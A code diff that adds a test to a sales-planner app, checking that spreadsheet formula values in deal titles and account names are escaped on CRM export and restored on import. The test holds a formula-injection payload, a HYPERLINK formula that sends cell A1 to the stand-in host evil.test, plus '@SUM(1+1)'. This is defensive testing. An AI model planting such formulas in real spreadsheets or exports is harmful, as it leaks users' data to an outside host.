@@ -133,3 +133,34 @@ def test_the_calendar_holds_next_steps_and_work_due(filled: Planner, tmp_path: P
     assert not any(s.startswith("Next step") for s in summaries)
     filled.deals.abandon(fleet.id, "Budget gone")
     assert calendar.calendar(filled).walk("VEVENT") == []
+
+
+HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Open")'
+
+
+@pytest.mark.parametrize("target", [Source.PIPEDRIVE, Source.HUBSPOT, Source.CSV])
+def test_a_name_that_is_a_formula_is_exported_as_text_and_imported_as_typed(
+        qapp, tmp_path: Path, target: Source) -> None:  # noqa: ANN001
+    planner = Planner.open(tmp_path / "hostile.planner", create=True)
+    planner.processes.create(sales_process())
+    process = planner.processes.get(planner.processes.summaries()[0].id)
+    account = planner.accounts.create(Account(name="@SUM(1+1)"))
+    planner.contacts.add(Contact(account, "Ann Lee", phone="+886 2 2345 6789"))
+    planner.deals.create(Deal(account, process.id, HOSTILE, value=100, currency="TWD"))  # type: ignore[arg-type]
+    folder = tmp_path / "out"
+    crm_export.export(planner, target, folder)
+    planner.close()
+    names = crm_export.file_names(target)
+    text = "".join((folder / n).read_text(encoding="utf-8-sig") for n in names)
+    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text
+    assert "+886 2 2345 6789" in text and "'+886" not in text  # a phone number stays as CRMs take it
+    fresh = Planner.open(tmp_path / "fresh.planner", create=True)
+    fresh.processes.create(sales_process())
+    kinds = (Kind.ORGANIZATIONS, Kind.PEOPLE, Kind.DEALS)
+    inputs = [import_plan.Input.guessed(csv_files.read(folder / n), k) for n, k in zip(names, kinds, strict=True)]
+    plan = import_plan.plan(inputs, import_plan.Choices(target), import_plan.Existing.read(fresh))
+    assert plan.ok, [(r.file, r.line, r.errors) for r in plan.errors] + list(plan.problems)
+    import_run.run(fresh, plan)
+    assert [d.title for d in fresh.deals.all()] == [HOSTILE]
+    assert [a.name for a in fresh.accounts.all()] == ["@SUM(1+1)"]
+    fresh.close()
